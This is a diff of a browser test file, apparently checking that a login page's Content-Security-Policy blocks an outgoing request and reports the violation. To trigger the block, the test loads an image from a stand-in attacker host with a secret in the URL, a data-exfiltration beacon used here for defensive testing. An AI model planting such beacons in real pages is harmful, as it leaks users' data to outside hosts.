@@ -93,7 +93,8 @@ test('threat 40: whatever is reported about the policy is answered 204, and the 
 
 test('threat 40: a page tells what its policy stopped, and waits for no answer', async ({ page }) => {
   await page.goto(`${server.url}/login`);
-  await expect(page.getByRole('heading', { level: 1 })).toBeVisible();
+  // The page listens once it stands, with the parts that come then; what happens before the browser reports by itself.
+  await expect(page.locator('[data-slot="back-to-top"]')).toBeAttached();
   const told = page.waitForRequest((request) => request.postData()?.includes('"blockedURI"') === true);
   await page.evaluate(() => {
     new Image().src = 'https://evil.example/pixel.png?secret=1';
